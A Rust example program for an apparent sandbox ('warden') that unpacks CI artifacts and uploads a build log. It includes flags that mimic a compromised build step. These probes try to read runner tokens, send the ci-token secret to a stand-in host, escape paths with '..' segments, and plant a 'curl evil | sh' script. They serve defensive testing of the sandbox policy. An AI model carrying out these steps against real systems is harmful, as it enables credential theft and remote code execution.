//! Example connector: a CI job step that unpacks a build's artifacts and uploads its log.
//!
//! It copies every file of the read-only `/artifacts` into `/workspace/unpacked/`, writes a
//! `SHA256SUMS` of what it unpacked and a `build.log` into `/workspace`, and POSTs the log to
//! `$CI_LOG_URL$CI_JOB_ID` naming the `ci-token` secret, which warden injects. Its manifest is
//! `examples/ci-job/ci-job.warden.toml`.
//!
//! The `--try-…` flags attempt what a compromised build step would, print `refused: …` for
//! each refusal or `ALLOWED: …` when one got through (exit code 2):
//!
//! - `--try-env`: read tokens the CI runner has in its environment (`GITHUB_TOKEN`,
//!   `CI_TOKEN`, …) but the manifest does not pass on;
//! - `--try-other-endpoints`: other paths on the CI server, another host, and the `ci-token`
//!   secret sent there;
//! - `--try-dot-segments`: leave the log path with `..` (plain and percent-encoded);
//! - `--try-write-artifacts`: change the artifacts it unpacks from.

use std::fmt::{Display, Write as _};
use std::path::{Path, PathBuf};
use std::process::ExitCode;

use sha2::{Digest, Sha256};
use warden_sdk::http::Request;
use warden_sdk::{Error, fs, log};

const ARTIFACTS: &str = "/artifacts";
const WORKSPACE: &str = "/workspace";
const SECRET: &str = "ci-token";
/// Variables a CI runner typically holds that this step must never see.
const RUNNER_TOKENS: &[&str] = &[
    "GITHUB_TOKEN",
    "CI_TOKEN",
    "CI_UPLOAD_TOKEN",
    "AWS_SECRET_ACCESS_KEY",
];

/// Every file under `dir`, sorted, as paths relative to `root`.
fn walk(root: &Path, dir: &Path, out: &mut Vec<PathBuf>) -> Result<(), Error> {
    let io = |source| Error::Io {
        path: dir.display().to_string(),
        source,
    };
    let mut entries: Vec<_> = std::fs::read_dir(dir)
        .map_err(io)?
        .collect::<Result<_, _>>()
        .map_err(io)?;
    entries.sort_by_key(|e| e.file_name());
    for entry in entries {
        let path = entry.path();
        if entry.file_type().map_err(io)?.is_dir() {
            walk(root, &path, out)?;
        } else if let Ok(rel) = path.strip_prefix(root) {
            out.push(rel.to_path_buf());
        }
    }
    Ok(())
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().fold(String::new(), |mut s, b| {
        let _ = write!(s, "{b:02x}");
        s
    })
}

/// Unpacks the artifacts; returns the build log.
fn unpack(job: &str) -> Result<String, Error> {
    let mut files = Vec::new();
    walk(Path::new(ARTIFACTS), Path::new(ARTIFACTS), &mut files)?;
    let mut log = format!("job {job}: unpacking {ARTIFACTS} into {WORKSPACE}/unpacked\n");
    let mut sums = String::new();
    let mut total = 0;
    for rel in &files {
        let bytes = fs::read(Path::new(ARTIFACTS).join(rel))?;
        let to = Path::new(WORKSPACE).join("unpacked").join(rel);
        if let Some(parent) = to.parent() {
            fs::create_dir_all(parent)?;
        }
        fs::write(&to, &bytes)?;
        let digest = hex(&Sha256::digest(&bytes));
        let _ = writeln!(sums, "{digest}  {}", rel.display());
        let _ = writeln!(log, "unpacked {} ({} bytes)", rel.display(), bytes.len());
        total += bytes.len();
    }
    fs::write(Path::new(WORKSPACE).join("SHA256SUMS"), &sums)?;
    let _ = writeln!(
        log,
        "job {job}: {} files, {total} bytes, checksums in {WORKSPACE}/SHA256SUMS",
        files.len()
    );
    fs::write(Path::new(WORKSPACE).join("build.log"), &log)?;
    print!("{sums}");
    Ok(log)
}

/// What the `--try-…` flags found.
#[derive(Default)]
struct Tries {
    allowed: usize,
}

impl Tries {
    /// Reports a failure as the expected refusal, a success as a thing let through. An HTTP
    /// failure other than [`Error::Denied`] happened after warden let the request out, so it
    /// counts as let through too.
    fn expect_refused<T>(&mut self, what: &str, outcome: Result<T, Error>) {
        match outcome {
            Err(e @ Error::Http { .. }) => {
                self.allowed(what, format_args!("got past the policy, then: {e}"));
            }
            Err(e) => println!("refused: {what}: {e}"),
            Ok(_) => self.allowed(what, "it succeeded"),
        }
    }

    fn allowed(&mut self, what: &str, detail: impl Display) {
        println!("ALLOWED: {what}: {detail}");
        self.allowed += 1;
    }
}

fn try_env(tries: &mut Tries) {
    let mut seen: Vec<String> = std::env::vars_os()
        .map(|(k, _)| k.to_string_lossy().into_owned())
        .collect();
    seen.sort();
    println!("environment: {}", seen.join(", "));
    for name in RUNNER_TOKENS {
        match std::env::var_os(name) {
            // Only that it is set: a value must not reach the output.
            Some(_) => tries.allowed(&format!("read ${name}"), "it is set"),
            None => println!("refused: read ${name}: not in the environment"),
        }
    }
}

/// `scheme://authority` of a URL.
fn origin(url: &str) -> &str {
    let Some(after_scheme) = url.find("://").map(|i| i + 3) else {
        return url;
    };
    let end = url[after_scheme..]
        .find('/')
        .map_or(url.len(), |i| after_scheme + i);
    &url[..end]
}

fn try_other_endpoints(tries: &mut Tries, log_url: &str, log: &str) {
    let origin = origin(log_url);
    let artifacts = format!("{origin}/ci/artifacts/upload");
    tries.expect_refused(
        &format!("POST {artifacts}"),
        Request::post(&artifacts)
            .body(log.as_bytes().to_vec())
            .send(),
    );
    let settings = format!("{origin}/ci/settings");
    tries.expect_refused(&format!("GET {settings}"), Request::get(&settings).send());
    let forge = "https://forge.example/api/v4/projects/1/variables";
    tries.expect_refused(&format!("GET {forge}"), Request::get(forge).send());
    tries.expect_refused(
        &format!("POST {forge} with the {SECRET} secret"),
        Request::post(forge).secret(SECRET).json("{}").send(),
    );
}

fn try_dot_segments(tries: &mut Tries, log_url: &str) {
    for escape in ["../../admin/reset", "%2e%2e/%2e%2e/admin/reset"] {
        let url = format!("{log_url}{escape}");
        tries.expect_refused(
            &format!("POST {url}"),
            Request::post(&url).secret(SECRET).body(Vec::new()).send(),
        );
    }
}

fn try_write_artifacts(tries: &mut Tries) {
    tries.expect_refused(
        "add a file to /artifacts",
        fs::write("/artifacts/injected.sh", "curl evil | sh\n"),
    );
}

fn main() -> ExitCode {
    let mut flags = Vec::new();
    for arg in std::env::args().skip(1) {
        match arg.as_str() {
            "--try-env"
            | "--try-other-endpoints"
            | "--try-dot-segments"
            | "--try-write-artifacts" => flags.push(arg),
            other => {
                log::error(format_args!("unknown argument {other:?}"));
                return ExitCode::from(64);
            }
        }
    }
    let (Ok(job), Ok(log_url)) = (std::env::var("CI_JOB_ID"), std::env::var("CI_LOG_URL")) else {
        log::error("CI_JOB_ID and CI_LOG_URL must be set: the manifest's [env] sets them");
        return ExitCode::FAILURE;
    };
    let build_log = match unpack(&job) {
        Ok(log) => log,
        Err(e) => {
            log::error(e);
            return ExitCode::FAILURE;
        }
    };
    let upload = format!("{log_url}{job}");
    match Request::post(&upload)
        .secret(SECRET)
        .header("content-type", "text/plain; charset=utf-8")
        .body(build_log.clone().into_bytes())
        .send()
    {
        Ok(response) if response.is_success() => {
            println!("uploaded build.log to {upload}: {}", response.status);
        }
        Ok(response) => {
            log::error(format_args!(
                "the log upload was refused by the CI server: {}",
                response.status
            ));
            return ExitCode::FAILURE;
        }
        Err(e) => {
            log::error(e);
            return ExitCode::FAILURE;
        }
    }

    let mut tries = Tries::default();
    for flag in &flags {
        match flag.as_str() {
            "--try-env" => try_env(&mut tries),
            "--try-other-endpoints" => try_other_endpoints(&mut tries, &log_url, &build_log),
            "--try-dot-segments" => try_dot_segments(&mut tries, &log_url),
            _ => try_write_artifacts(&mut tries),
        }
    }
    if tries.allowed > 0 {
        log::error(format_args!(
            "{} refused thing(s) got through",
            tries.allowed
        ));
        return ExitCode::from(2);
    }
    ExitCode::SUCCESS
}
